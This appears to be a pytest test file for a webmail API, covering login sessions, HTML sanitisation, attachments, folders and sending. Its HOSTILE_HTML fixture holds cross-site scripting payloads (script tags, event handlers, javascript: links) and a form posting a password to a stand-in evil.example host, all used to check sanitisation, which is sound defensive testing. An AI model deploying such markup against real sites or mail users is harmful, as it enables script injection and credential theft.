"""The webmail API over HTTP: sessions, reading hostile mail, parts, changes, sending."""

from __future__ import annotations

import asyncio
import base64
import json
from email import policy
from email.message import EmailMessage
from email.parser import BytesParser
from types import SimpleNamespace
from typing import Any

import aiohttp
import pytest

from tests.mail.factories import PASSWORD, cookie, make_account, make_session
from tests.mail.webmail_helpers import Mailbox, make_mailbox, sign_in
from tests.mta.conftest import dns_server, mta_config, mta_ctx  # noqa: F401

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
HOSTILE_HTML = """<html><head><style>body{background:url(https://tracker.example/css.png)}</style>
<script>document.title='pwned'</script></head>
<body onload="alert(1)">
<p onclick="steal()" style="color: red; position: fixed">Hello <b>there</b></p>
<form action="https://evil.example/collect" method="post"><input name="password"><button>Go</button></form>
<img src="https://tracker.example/open.gif" alt="tracker">
<img src="cid:logo@example.test" alt="logo" onerror="alert(2)">
<a href="javascript:alert(3)">js link</a>
<a href="https://example.org/page">a link</a>
<iframe src="https://evil.example/frame"></iframe>
<svg><script>alert(4)</script></svg>
</body></html>"""


def letter(
    subject: str = "Hello",
    body: str = "Hi there",
    *,
    sender: str = "Bob <bob@remote.test>",
    to: str = "alice@example.test",
    html: str | None = None,
    message_id: str | None = None,
    attachment: tuple[str, str, bytes] | None = None,
    inline_png: bool = False,
) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = subject
    if message_id:
        msg["Message-ID"] = f"<{message_id}>"
    msg.set_content(body)
    if html is not None:
        msg.add_alternative(html, subtype="html")
        if inline_png:
            msg.get_payload()[1].add_related(PNG, "image", "png", cid="<logo@example.test>")
    if attachment:
        name, ctype, data = attachment
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes().replace(b"\n", b"\r\n")


@pytest.fixture
async def alice(mta_ctx: Any) -> Mailbox:  # noqa: F811
    return await make_mailbox(mta_ctx, "alice@example.test")


@pytest.fixture
async def bob(mta_ctx: Any) -> Mailbox:  # noqa: F811
    return await make_mailbox(mta_ctx, "bob@other.test")


async def listing(client: Any, **query: str) -> dict[str, Any]:
    resp = await client.get("/api/mail/messages", params=query)
    assert resp.status == 200, await resp.text()
    return dict(await resp.json())


async def folder_by_role(client: Any, role: str) -> dict[str, Any]:
    resp = await client.get("/api/mail/folders")
    return next(f for f in (await resp.json())["data"] if f["role"] == role)


# --- sessions -------------------------------------------------------------------


async def test_login_sets_a_12_hour_httponly_lax_cookie_and_me_names_the_mailbox(client, alice):
    resp = await sign_in(client, "Alice@Example.test")
    morsel = resp.cookies["svc_webmail"]
    assert morsel["httponly"] and morsel["samesite"] == "Lax"
    assert morsel["max-age"] == str(12 * 3600)
    assert (await resp.json())["email"] == "alice@example.test"
    me = await client.get("/api/mail/me")
    assert me.status == 200
    assert (await me.json())["id"] == alice.address_id


async def test_wrong_password_and_unknown_address_answer_alike(client, alice):
    wrong = await client.post("/api/mail/login", json={"email": alice.email, "password": "nope"})
    unknown = await client.post(
        "/api/mail/login", json={"email": "nobody@example.test", "password": "nope"}
    )
    assert wrong.status == unknown.status == 401
    assert await wrong.json() == await unknown.json()
    assert "svc_webmail" not in wrong.cookies


async def test_logout_and_expiry_end_the_session(client, alice, clock):
    await sign_in(client, alice.email)
    assert (await client.post("/api/mail/logout")).status == 204
    assert (await client.get("/api/mail/me")).status == 401
    resp = await sign_in(client, alice.email)
    token = resp.cookies["svc_webmail"].value
    clock.advance(hours=12)
    again = await client.get("/api/mail/me", cookies={"svc_webmail": token})
    assert again.status == 401


async def test_a_panel_session_cannot_use_webmail_and_the_webmail_cookie_not_the_panel(
    client, runtime, alice
):
    account = await make_account(runtime)
    panel_token = await make_session(runtime, account)
    panel = await client.get("/api/mail/me", headers=cookie(panel_token))
    assert panel.status == 401
    assert (await client.get("/api/mail/folders", headers=cookie(panel_token))).status == 401
    resp = await sign_in(client, alice.email)
    webmail = resp.cookies["svc_webmail"].value
    client.session.cookie_jar.clear()
    reply = await client.get("/api/account/sessions", cookies={"svc_webmail": webmail})
    assert reply.status == 401


async def test_login_is_rate_limited_like_panel_sign_in(make_client, alice):
    limited = await make_client()
    statuses = []
    for _ in range(7):
        resp = await limited.post("/api/mail/login", json={"email": alice.email, "password": "x"})
        statuses.append(resp.status)
    assert statuses[:5] == [401] * 5
    assert statuses[-1] == 429


# --- reading --------------------------------------------------------------------


async def test_hostile_html_arrives_sanitised_with_cid_images_signed_and_remote_blocked(
    client, aiohttp_client, alice, clock
):
    email_id = await alice.deliver(letter("Hostile", html=HOSTILE_HTML, inline_png=True))
    await sign_in(client, alice.email)
    resp = await client.get(f"/api/mail/messages/{email_id}")
    assert resp.status == 200
    body = await resp.json()
    html = body["html"]
    for bad in ("<script", "onload", "onclick", "onerror", "<form", "<input", "<iframe",
                "javascript:", "tracker.example", "position", "<style", "evil.example"):  # fmt: skip
        assert bad not in html, bad
    assert "Hello <b>there</b>" in html
    assert 'style="color:red"' in html
    assert 'href="https://example.org/page" target="_blank" rel="noopener noreferrer"' in html
    assert body["remote_content_blocked"] == 1
    assert body["text"].startswith("Hi there")
    # The cid: image is a signed part URL that works without any cookie.
    src = html.split('<img src="', 1)[1].split('"', 1)[0].replace("&amp;", "&")
    assert src.startswith(f"/api/mail/messages/{email_id}/part/") and "signature=" in src
    anonymous = await aiohttp_client(client.server.app)
    image = await anonymous.get(src)
    assert image.status == 200 and await image.read() == PNG
    assert image.headers["Content-Type"] == "image/png"
    assert image.headers["X-Content-Type-Options"] == "nosniff"
    tampered = await anonymous.get(src.replace("signature=", "signature=0"))
    assert tampered.status == 401
    clock.advance(minutes=16)
    assert (await anonymous.get(src)).status == 401
    # Remote images only when asked, for this message.
    shown = await (await client.get(f"/api/mail/messages/{email_id}?remote_content=true")).json()
    assert 'src="https://tracker.example/open.gif"' in shown["html"]
    assert "<script" not in shown["html"]


async def test_the_reading_frame_has_its_own_sandbox_policy(client, alice):
    email_id = await alice.deliver(letter(html=HOSTILE_HTML))
    await sign_in(client, alice.email)
    resp = await client.get(f"/webmail/frame/{email_id}")
    assert resp.status == 200
    policy_ = resp.headers["Content-Security-Policy"]
    assert policy_.startswith("sandbox allow-popups")
    assert "default-src 'none'" in policy_ and "script-src" not in policy_
    assert "https:" not in policy_
    assert "<script" not in await resp.text()
    remote = await client.get(f"/webmail/frame/{email_id}?remote_content=true")
    assert "https:" in remote.headers["Content-Security-Policy"]


async def test_plain_text_message_has_no_html(client, alice):
    email_id = await alice.deliver(letter("Plain", "Just <b>text</b>"))
    await sign_in(client, alice.email)
    body = await (await client.get(f"/api/mail/messages/{email_id}")).json()
    assert body["html"] is None and body["text"].startswith("Just <b>text</b>")


async def test_raw_and_parts(client, alice):
    raw = letter(
        "With parts",
        html="<p>html body</p>",
        attachment=("report.html", "text/html", b"<script>alert(1)</script>"),
    )
    email_id = await alice.deliver(raw)
    await sign_in(client, alice.email)
    got = await client.get(f"/api/mail/messages/{email_id}/raw")
    assert got.status == 200 and got.headers["Content-Type"].startswith("message/rfc822")
    assert (await got.read()).endswith(raw)
    assert got.headers["Content-Disposition"].startswith("attachment")
    message = await (await client.get(f"/api/mail/messages/{email_id}")).json()
    [attachment] = message["attachments"]
    assert attachment["name"] == "report.html"
    part = await client.get(attachment["url"])
    assert part.status == 200
    # HTML from a message is never served as HTML from this origin.
    assert part.headers["Content-Type"].startswith("text/plain")
    assert part.headers["Content-Disposition"].startswith("attachment;")
    assert 'filename="report.html"' in part.headers["Content-Disposition"]
    assert part.headers["X-Content-Type-Options"] == "nosniff"
    assert part.headers["Content-Security-Policy"].startswith("sandbox")
    assert await part.read() == b"<script>alert(1)</script>"
    assert (await client.get(f"/api/mail/messages/{email_id}/part/99")).status == 404


# --- listing --------------------------------------------------------------------


async def test_list_envelope_search_filters_and_pages(client, alice, clock):
    for n in range(12):
        await alice.deliver(letter(f"Report {n}", f"quarterly numbers {n}"))
        clock.advance(seconds=1)
    await alice.deliver(
        letter(
            "Invoice",
            "pay me",
            sender="carol@shop.test",
            attachment=("a.pdf", "application/pdf", b"%PDF"),
        )
    )
    await sign_in(client, alice.email)
    first = await listing(client, per_page="10")
    assert first["object"] == "list" and first["total"] == 13 and first["pages"] == 2
    assert first["per_page"] == 10 and len(first["data"]) == 10
    assert first["data"][0]["subject"] == "Invoice"  # newest first
    second = await listing(client, per_page="10", page="2")
    assert len(second["data"]) == 3
    assert {m["id"] for m in first["data"]}.isdisjoint(m["id"] for m in second["data"])
    assert (await listing(client, search="quarterly"))["total"] == 12
    assert [m["subject"] for m in (await listing(client, has_attachment="true"))["data"]] == [
        "Invoice"
    ]
    assert (await listing(client, **{"from": "carol@shop.test"}))["total"] == 1
    assert (await listing(client, unread="true"))["total"] == 13
    assert (await listing(client, flagged="true"))["total"] == 0
    assert (await listing(client, since="2999-01-01T00:00:00Z"))["total"] == 0
    assert (await listing(client, sort="subject", direction="asc"))["data"][0][
        "subject"
    ] == "Invoice"
    assert (await listing(client, per_page="7"))["per_page"] == 10
    bad = await client.get("/api/mail/messages", params={"unread": "maybe"})
    assert bad.status == 400 and (await bad.json())["name"] == "invalid_parameter"


# --- changes --------------------------------------------------------------------


async def test_flags_move_and_delete_over_id_lists(client, alice):
    ids = [await alice.deliver(letter(f"m{n}")) for n in range(3)]
    await sign_in(client, alice.email)
    inbox = await folder_by_role(client, "inbox")
    assert inbox["unread"] == 3
    resp = await client.post(
        "/api/mail/messages/flags", json={"ids": ids[:2], "seen": True, "flagged": True}
    )
    assert resp.status == 200
    assert (await folder_by_role(client, "inbox"))["unread"] == 1
    flagged = await listing(client, flagged="true")
    assert sorted(m["id"] for m in flagged["data"]) == sorted(ids[:2])
    archive = await folder_by_role(client, "archive")
    moved = await client.post(
        "/api/mail/messages/move", json={"ids": [ids[0]], "folder_id": archive["id"]}
    )
    assert moved.status == 200
    assert [m["id"] for m in (await listing(client, folder_id=archive["id"]))["data"]] == [ids[0]]
    gone = await client.post("/api/mail/messages/delete", json={"ids": [ids[1]]})
    assert (await gone.json())["moved_to_trash"] == [ids[1]]
    trash = await folder_by_role(client, "trash")
    assert [m["id"] for m in (await listing(client, folder_id=trash["id"]))["data"]] == [ids[1]]
    for_good = await client.post("/api/mail/messages/delete", json={"ids": [ids[1]]})
    assert (await for_good.json())["deleted"] == [ids[1]]
    assert (await client.get(f"/api/mail/messages/{ids[1]}")).status == 404


async def test_another_mailboxs_ids_answer_404_and_nothing_changes(client, alice, bob):
    mine = await alice.deliver(letter("mine"))
    theirs = await bob.deliver(letter("theirs", to=bob.email))
    await sign_in(client, alice.email)
    trash = await folder_by_role(client, "trash")
    for path, extra in (
        ("/api/mail/messages/flags", {"seen": True}),
        ("/api/mail/messages/move", {"folder_id": trash["id"]}),
        ("/api/mail/messages/delete", {}),
    ):
        resp = await client.post(path, json={"ids": [mine, theirs], **extra})
        assert resp.status == 404, path
        assert (await resp.json())["name"] == "not_found"
    assert (await folder_by_role(client, "inbox"))["unread"] == 1
    for path in ("", "/raw", "/part/1"):
        assert (await client.get(f"/api/mail/messages/{theirs}{path}")).status == 404
    # Bob's folder is not a target either.
    bob_inbox = bob.roles["inbox"]
    moved = await client.post(
        "/api/mail/messages/move", json={"ids": [mine], "folder_id": bob_inbox}
    )
    assert moved.status == 404


async def test_folders_create_and_delete_but_special_ones_stay(client, alice):
    await sign_in(client, alice.email)
    made = await client.post("/api/mail/folders", json={"name": "Receipts"})
    assert made.status == 201
    folder = await made.json()
    assert folder["object"] == "folder" and folder["special"] is False
    assert (await client.post("/api/mail/folders", json={"name": "receipts"})).status == 409
    inbox = await folder_by_role(client, "inbox")
    refused = await client.delete(f"/api/mail/folders/{inbox['id']}")
    assert refused.status == 409
    assert (await client.delete(f"/api/mail/folders/{folder['id']}")).status == 204
    names = [f["name"] for f in (await (await client.get("/api/mail/folders")).json())["data"]]
    assert "Receipts" not in names and "Inbox" in names


# --- sending --------------------------------------------------------------------


async def queued(alice: Mailbox) -> list[dict[str, Any]]:
    return await alice.db.fetch_all(
        "SELECT id::text, source, mail_from, raw FROM mta.outbound_messages WHERE mail_from = %s",
        (alice.email,),
    )


async def test_reply_with_an_attachment_is_queued_threaded_and_copied_to_sent(client, alice):
    original = await alice.deliver(letter("Question", "What time?", message_id="q1@remote.test"))
    await sign_in(client, alice.email)
    form = {
        "to": "Bob <bob@example.com>",
        "subject": "Re: Question",
        "text": "Noon.",
        "reply_to_id": original,
    }
    data = aiohttp.FormData()
    data.add_field("message", json.dumps(form), content_type="application/json")
    data.add_field("attachments", b"agenda", filename="agenda.txt", content_type="text/plain")
    resp = await client.post("/api/mail/send", data=data)
    assert resp.status == 201, await resp.text()
    sent_id = (await resp.json())["id"]
    [row] = await queued(alice)
    assert row["source"] == "webmail"
    msg = BytesParser(policy=policy.default).parsebytes(bytes(row["raw"]))
    assert msg["In-Reply-To"] == "<q1@remote.test>"
    assert "<q1@remote.test>" in msg["References"]
    assert [a.get_filename() for a in msg.iter_attachments()] == ["agenda.txt"]
    sent = await folder_by_role(client, "sent")
    assert [m["id"] for m in (await listing(client, folder_id=sent["id"]))["data"]] == [sent_id]
    got = await (await client.get(f"/api/mail/messages/{original}")).json()
    assert "answered" in got["flags"]


async def test_drafts_are_saved_updated_and_sent_by_id(client, alice):
    await sign_in(client, alice.email)
    first = await client.post("/api/mail/drafts", json={"to": "dan@example.com", "subject": "Plan"})
    assert first.status == 201
    draft_id = (await first.json())["id"]
    second = await client.post(
        "/api/mail/drafts",
        json={"draft_id": draft_id, "to": "dan@example.com", "bcc": "eve@example.com",
              "subject": "Plan v2", "text": "Details"},
    )  # fmt: skip
    new_id = (await second.json())["id"]
    assert (await client.get(f"/api/mail/messages/{draft_id}")).status == 404
    drafts = await folder_by_role(client, "drafts")
    listed = (await listing(client, folder_id=drafts["id"]))["data"]
    assert [(m["id"], m["subject"]) for m in listed] == [(new_id, "Plan v2")]
    assert "draft" in listed[0]["flags"]
    sent = await client.post("/api/mail/send", json={"draft_id": new_id})
    assert sent.status == 201, await sent.text()
    [row] = await queued(alice)
    msg = BytesParser(policy=policy.default).parsebytes(bytes(row["raw"]))
    assert msg["Subject"] == "Plan v2" and msg["Bcc"] is None
    recipients = await alice.db.fetch_all(
        "SELECT rcpt FROM mta.outbound_recipients WHERE message_id = %s ORDER BY 1",
        (row["id"],),
    )
    assert [r["rcpt"] for r in recipients] == ["dan@example.com", "eve@example.com"]
    assert (await listing(client, folder_id=drafts["id"]))["total"] == 0
    assert (await client.get(f"/api/mail/messages/{new_id}")).status == 404


async def test_send_takes_test_names_and_says_why_a_name_is_refused(client, alice):
    """Webmail checks recipients as every sending path does (common/recipients.py)."""
    await sign_in(client, alice.email)
    resp = await client.post(
        "/api/mail/send", json={"to": "x@receiver.test", "cc": "ops@test", "subject": "hi"}
    )
    assert resp.status == 201, await resp.text()
    [row] = await queued(alice)
    recipients = await alice.db.fetch_all(
        "SELECT rcpt FROM mta.outbound_recipients WHERE message_id = %s ORDER BY position",
        (row["id"],),
    )
    assert [r["rcpt"] for r in recipients] == ["x@receiver.test", "ops@test"]
    refused = await client.post("/api/mail/send", json={"to": "x@abc.onion", "subject": "hi"})
    assert refused.status == 422
    assert "RFC 7686" in (await refused.json())["message"]
    assert len(await queued(alice)) == 1


async def test_send_needs_a_recipient(client, alice):
    await sign_in(client, alice.email)
    resp = await client.post("/api/mail/send", json={"subject": "nobody"})
    assert resp.status == 422 and (await resp.json())["name"] == "missing_required_field"
    assert await queued(alice) == []


async def test_a_new_mailbox_password_ends_its_webmail_sessions(client, runtime, alice):
    resp = await sign_in(client, alice.email)
    webmail = resp.cookies["svc_webmail"].value
    client.session.cookie_jar.clear()
    owner = SimpleNamespace(id=alice.account_id)
    panel = await make_session(runtime, owner)  # type: ignore[arg-type]
    changed = await client.post(
        f"/api/addresses/{alice.address_id}/password",
        json={"password": "a brand new password 42"},
        headers=cookie(panel),
    )
    assert changed.status == 200, await changed.text()
    client.session.cookie_jar.clear()
    assert (await client.get("/api/mail/me", cookies={"svc_webmail": webmail})).status == 401
    await sign_in(client, alice.email, "a brand new password 42")


async def read_event(resp: Any) -> tuple[str, dict[str, Any]]:
    """The next server-sent event (name, data), skipping keep-alive comments."""
    name, data = "", ""
    while True:
        line = (await asyncio.wait_for(resp.content.readline(), 10)).decode().rstrip("\n")
        if line.startswith("event: "):
            name = line[7:]
        elif line.startswith("data: "):
            data = line[6:]
        elif line == "" and name:
            return name, json.loads(data)


async def test_the_event_stream_announces_a_delivery(client, alice):
    await sign_in(client, alice.email)
    resp = await client.get("/api/mail/events")
    assert resp.status == 200 and resp.headers["Content-Type"] == "text/event-stream"
    name, ready = await read_event(resp)
    assert name == "ready"
    await alice.deliver(letter("Live one"))
    name, changed = await read_event(resp)
    assert name == "change" and changed["email"] != ready["email"]
    resp.close()


async def test_forward_carries_the_attachments(client, alice):
    original = await alice.deliver(
        letter("Slides", "see attached", attachment=("deck.pdf", "application/pdf", b"%PDF-1.4"))
    )
    await sign_in(client, alice.email)
    resp = await client.post(
        "/api/mail/send",
        json={
            "to": "carol@example.com",
            "subject": "Fwd: Slides",
            "text": "FYI",
            "forward_id": original,
        },
    )
    assert resp.status == 201, await resp.text()
    [row] = await queued(alice)
    msg = BytesParser(policy=policy.default).parsebytes(bytes(row["raw"]))
    [part] = list(msg.iter_attachments())
    assert part.get_filename() == "deck.pdf" and part.get_content() == b"%PDF-1.4"
    got = await (await client.get(f"/api/mail/messages/{original}")).json()
    assert "forwarded" in got["flags"]


async def test_attachments_past_25_mb_are_refused(client, alice):
    await sign_in(client, alice.email)
    data = aiohttp.FormData()
    data.add_field(
        "message", json.dumps({"to": "carol@example.com"}), content_type="application/json"
    )
    data.add_field("attachments", b"x" * (25_000_001), filename="big.bin")
    resp = await client.post("/api/mail/drafts", data=data)
    assert resp.status == 413 and (await resp.json())["name"] == "quota_exceeded"


async def test_another_mailboxs_folder_cannot_be_deleted_or_listed(client, alice, bob):
    await sign_in(client, alice.email)
    made = await bob.db.fetch_val(
        "INSERT INTO mta.mailboxes (address_id, name, sort_order, created_at)"
        " VALUES (%s, 'Private', 100, now()) RETURNING id::text",
        (bob.address_id,),
    )
    assert (await client.delete(f"/api/mail/folders/{made}")).status == 404
    listed = await client.get("/api/mail/messages", params={"folder_id": made})
    assert listed.status == 404
    assert await bob.db.fetch_val("SELECT count(*) FROM mta.mailboxes WHERE id = %s", (made,)) == 1


async def test_the_cookie_is_secure_under_https(make_client, alice):
    secure = await make_client(
        {"RATE_LIMIT_PER_SECOND": "1000", "AUTH_RATE_LIMIT_PER_SECOND": "1000"},
        public_url="https://mail.example.com",
    )
    resp = await secure.post("/api/mail/login", json={"email": alice.email, "password": PASSWORD})
    assert resp.status == 200
    assert resp.cookies["svc_webmail"]["secure"]


async def test_the_frames_signed_images_spend_no_api_budget(make_client, alice, clock):
    """A message's inline images are the reading frame's (a page's) resources."""
    client = await make_client({"RATE_LIMIT_PER_SECOND": "1", "RATE_LIMIT_BURST": "2"})
    email_id = await alice.deliver(letter("Logo", html=HOSTILE_HTML, inline_png=True))
    await sign_in(client, alice.email)  # spends one of the IP's two
    clock.advance(5)
    html = (await (await client.get(f"/api/mail/messages/{email_id}")).json())["html"]
    src = html.split('<img src="', 1)[1].split('"', 1)[0].replace("&amp;", "&")
    client.session.cookie_jar.clear()  # the sandboxed frame sends no cookie
    for _ in range(30):
        image = await client.get(src)
        assert image.status == 200 and "ratelimit-remaining" not in image.headers
    # A wrong signature is an API call like any other, spending the IP's budget.
    tampered = [
        (await client.get(src.replace("signature=", "signature=0"))).status for _ in range(3)
    ]
    assert tampered == [401, 401, 429]
